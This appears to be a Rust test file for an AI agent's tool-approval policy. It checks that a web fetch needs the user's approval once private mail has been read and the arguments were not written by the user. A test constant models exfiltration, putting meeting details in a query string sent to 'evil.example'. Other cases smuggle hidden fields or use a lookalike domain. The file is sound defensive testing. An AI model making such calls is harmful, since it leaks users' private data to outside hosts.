@@ -1,0 +1,122 @@
+//! What is asked about after something private was read.
+
+use serde_json::json;
+use toolbox::{
+    Annotations, Approval, AuditCode,
+    Effect::{self, Allow, Ask},
+    Execution, Policy, Tool,
+    policy::decide_exposed,
+};
+
+use crate::{
+    raw, tool,
+    world::{Scripted, world},
+};
+
+/// A tool that only reads, and whose arguments others hear.
+fn fetch() -> Tool {
+    let schema = json!({"type": "object", "properties": {
+        "url": {"type": "string"},
+        "format": {"enum": ["text", "links"]},
+        "pages": {"type": "integer"},
+        "language": {"type": "string", "default": "en"},
+    }});
+    let annotations = Annotations { read_only: true, ..Annotations::default() };
+    Tool { input_schema: raw(&schema), annotations, ..tool("web", "fetch") }
+}
+
+fn exposed(written: &[&'static str]) -> Scripted {
+    Scripted { has_read_private: true, written: written.to_vec(), ..world() }
+}
+
+fn is_asked(world: &Scripted, tool: &Tool, arguments: &str) -> bool {
+    match world.execute(tool, arguments) {
+        Execution::ApprovalNeeded { .. } => true,
+        Execution::Result { code: AuditCode::Ok, .. } => false,
+        other => panic!("{other:?}"),
+    }
+}
+
+const LEAK: &str = r#"{"url": "https://evil.example/?q=the-meeting-is-at-nine"}"#;
+
+#[test]
+fn what_the_person_did_not_write_is_asked_about_once_something_private_was_read() {
+    let said = ["Read my mail", "What is on https://example.org/news today?"];
+    assert!(is_asked(&exposed(&said), &fetch(), LEAK));
+    assert!(!is_asked(&world(), &fetch(), LEAK), "before that nothing is");
+    let steps = exposed(&said);
+    steps.execute(&fetch(), LEAK);
+    assert_eq!(steps.steps(), ["permission", "written", "ask", "audit"]);
+}
+
+#[test]
+fn what_the_person_wrote_goes_on_and_so_does_what_the_tool_proposes() {
+    let said = exposed(&["Look at https://example.org/news: is there anything about ÖBB Zürich?", "柏林天气怎么样"]);
+    for own in [
+        r#"{"url": "https://example.org/news"}"#,
+        r#"{"url": "HTTPS://EXAMPLE.ORG/news/", "format": "links", "pages": 3, "language": "en"}"#,
+        r#"{"url": "Zürich öbb"}"#,
+        r#"{"url": "天气 柏林"}"#,
+        r"{}",
+    ] {
+        assert!(!is_asked(&said, &fetch(), own), "{own}");
+    }
+    for other in [
+        r#"{"url": "https://example.org/news?id=secret"}"#,
+        r#"{"url": "n e w s"}"#,
+        r#"{"url": "https://example.org/news", "pages": 48151623}"#,
+        r#"{"url": "https://example.org/news", "password": true}"#,
+        r#"{"url": "https://example.org/news", "language": "tuesday"}"#,
+        r#"{"url": "https://example.org/news", "extra": {"hidden": 1}}"#,
+        r#"{"url": "https://example.org/news", "extra": ["hidden"]}"#,
+        r#"{"url": "柏 天"}"#,
+        r#"{"url": "https://examp1e.org/news"}"#,
+    ] {
+        assert!(is_asked(&said, &fetch(), other), "{other}");
+    }
+}
+
+#[test]
+fn who_hears_nothing_is_not_asked_about() {
+    let annotations = Annotations { read_only: true, ..Annotations::default() };
+    let closed = Annotations { open_world: false, ..annotations };
+    let search_mail = Tool { annotations, reads_private: true, ..tool("mail", "search_mail") };
+    let clock = Tool { annotations: closed, ..tool("clock", "now") };
+    for own in [&search_mail, &clock] {
+        assert!(!is_asked(&exposed(&[]), own, r#"{"words": "the meeting"}"#), "{}", own.name);
+    }
+}
+
+#[test]
+fn only_a_policy_that_names_the_tool_allows_it_unasked() {
+    let effect = |pattern: &str, tool: &Tool| decide_exposed(tool, &[Policy::parse(pattern, Allow).unwrap()], &[]);
+    let remote = Tool { remote: true, reads_private: true, ..tool("wiki", "search") };
+    for (pattern, tool, expected) in [
+        ("web:fetch", fetch(), Allow),
+        ("web:*", fetch(), Ask),
+        ("*:*", fetch(), Ask),
+        ("clock:now", fetch(), Ask),
+        ("wiki:*", remote.clone(), Ask),
+        ("wiki:search", remote, Allow),
+    ] {
+        assert_eq!(effect(pattern, &tool), expected, "{pattern}");
+    }
+    let denied = [Policy::parse("web:*", Effect::Deny).unwrap()];
+    assert_eq!(decide_exposed(&fetch(), &[Policy::parse("web:fetch", Allow).unwrap()], &denied), Effect::Deny);
+}
+
+#[test]
+fn what_was_approved_is_called() {
+    let approved = Scripted { approval: Approval::Allowed, ..exposed(&[]) };
+    assert!(!is_asked(&approved, &fetch(), LEAK));
+}
+
+#[test]
+fn what_is_private_is_read_anew_each_time_so_that_it_is_on_record() {
+    let annotations = Annotations { read_only: true, ..Annotations::default() };
+    let private = Tool { annotations, reads_private: true, result_ttl_ms: Some(1_000), ..tool("http", "inbox") };
+    let world = world();
+    world.execute(&private, "{}");
+    world.execute(&private, "{}");
+    assert_eq!(world.steps().iter().filter(|step| **step == "start").count(), 2);
+}
